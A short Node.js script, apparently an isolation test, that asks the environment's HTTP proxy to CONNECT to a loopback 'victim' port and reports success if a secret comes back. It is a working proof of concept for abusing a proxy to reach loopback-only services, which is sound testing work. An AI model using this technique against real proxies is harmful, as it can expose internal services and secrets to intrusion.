// Asks the proxy that the environment names to connect to the engine's loopback port.
import net from 'node:net';

const proxy = new URL(process.env.HTTP_PROXY ?? process.env.http_proxy ?? 'http://127.0.0.1:3128');
const socket = net.connect(Number(proxy.port), proxy.hostname);
let answer = '';
setTimeout(() => stopped('out of time'), 2500).unref();
socket.on('connect', () => {
  const target = `127.0.0.1:${process.env.VICTIM_PORT}`;
  socket.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\nGET / HTTP/1.0\r\n\r\n`);
});
socket.on('data', (chunk) => (answer += chunk));
socket.on('error', (error) => stopped(error.code));
socket.on('close', () => {
  if (!answer.includes(process.env.SECRET)) stopped(answer.split('\r\n')[0]);
  console.log('SUCCEEDED: the proxy led to the loopback');
});

function stopped(why) {
  console.log(`stopped: ${why}`);
  process.exit(1);
}
